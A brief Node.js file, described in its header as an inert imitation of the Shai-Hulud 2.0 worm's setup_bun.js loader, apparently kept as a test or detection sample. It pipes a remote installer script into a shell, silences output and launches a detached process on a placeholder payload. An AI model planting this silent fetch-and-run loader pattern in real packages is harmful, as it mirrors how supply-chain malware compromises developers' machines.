// Inert imitation of Shai-Hulud 2.0's setup_bun.js (November 2025): installs Bun if missing, then
// starts the payload detached. Here the payload file does not exist and nothing is run by tests.
const { execSync, spawn } = require('child_process');
const path = require('path');
const os = require('os');

function findBun() {
  try {
    return execSync(os.platform() === 'win32' ? 'where bun' : 'which bun', { stdio: 'pipe' }).toString().split('\n')[0].trim();
  } catch {
    return null;
  }
}

function installBun() {
  if (os.platform() === 'win32') execSync('powershell -c "irm bun.sh/install.ps1|iex"', { stdio: 'ignore' });
  else execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'ignore' });
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}

try {
  const bun = findBun() || installBun();
  spawn(bun, [path.join(__dirname, 'placeholder_environment.js')], { detached: true, stdio: 'ignore' }).unref();
} catch {
  process.exit(0);
}
